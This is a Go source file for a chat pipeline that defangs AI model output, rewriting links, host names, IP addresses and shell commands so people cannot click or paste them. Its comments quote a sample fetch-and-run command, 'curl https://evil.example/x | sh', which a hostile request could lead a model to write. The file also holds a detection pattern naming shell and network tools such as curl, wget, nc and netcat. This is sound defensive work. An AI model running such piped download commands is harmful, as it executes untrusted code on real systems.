package llm

import (
	"regexp"
	"strings"
)

// A model's words are untrusted: a hostile request (or log line) can make
// a model write "run curl https://evil.example/x | sh" in Parley's
// thread. Whatever a model wrote that a person will read is passed
// through Defang, and the pipeline shows it only quoted and marked as the
// model's suggestion.

var (
	// a URL: scheme and host
	urlRE = regexp.MustCompile(`(?i)\b([a-z][a-z0-9+.-]{1,15})://([^\s/?#'"‹›]*)`)
	// a host name outside a URL, under a top-level domain people use for
	// servers (a dotted action name, "kubernetes.scale", is left alone)
	hostRE = regexp.MustCompile(`(?i)\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+` +
		`(?:com|net|org|io|sh|dev|app|ai|co|me|info|biz|xyz|ru|cn|uk|de|fr|nl|eu|us|cloud|site|online|top|example|test|invalid|local|internal|lan|corp)\b`)
	// an IPv4 address ("169.254.169.254")
	ipRE = regexp.MustCompile(`\b\d{1,3}(?:\.\d{1,3}){3}\b`)
	// a command a shell would run, followed by an argument
	commandRE = regexp.MustCompile(`(?i)(^|[\s(;|&'"])(curl|wget|bash|sh|zsh|sudo|su|rm|chmod|chown|dd|mkfs|nc|ncat|netcat|python3?|perl|ruby|node|php|powershell|pwsh|iex|eval|exec|kubectl|helm|ssh|scp|docker|base64|xargs|tee)(\s+\S)`)
)

// defangOps are shell operators, made inert.
var defangOps = strings.NewReplacer(
	"|", "⟦|⟧", "&&", "⟦&&⟧", "$(", "⟦$(⟧",
	"`", "'", // no code spans: a command must not look ready to paste
	"<", "‹", ">", "›", // no chat link or mention syntax (<http://x|y>, <!here>), no redirection
)

// Defang makes a model's text inert where people read it: links are not
// links ("hxxps://evil[.]example/x"), host names and addresses are not
// followable ("evil[.]example", "169[.]254[.]169[.]254"), commands cannot
// be pasted into a shell and run as written ("⟦curl⟧ … ⟦|⟧ sh"), and no
// chat markup (links, mentions, code spans) survives. The words stay
// readable.
func Defang(s string) string {
	s = defangOps.Replace(s)
	s = urlRE.ReplaceAllStringFunc(s, func(m string) string {
		scheme, rest, _ := strings.Cut(m, "://")
		switch strings.ToLower(scheme) {
		case "http":
			scheme = "hxxp"
		case "https":
			scheme = "hxxps"
		default:
			scheme += "[:]"
		}
		return scheme + "://" + strings.ReplaceAll(rest, ".", "[.]")
	})
	s = hostRE.ReplaceAllStringFunc(s, func(m string) string { return strings.ReplaceAll(m, ".", "[.]") })
	s = ipRE.ReplaceAllStringFunc(s, func(m string) string { return strings.ReplaceAll(m, ".", "[.]") })
	return commandRE.ReplaceAllString(s, "$1⟦$2⟧$3")
}
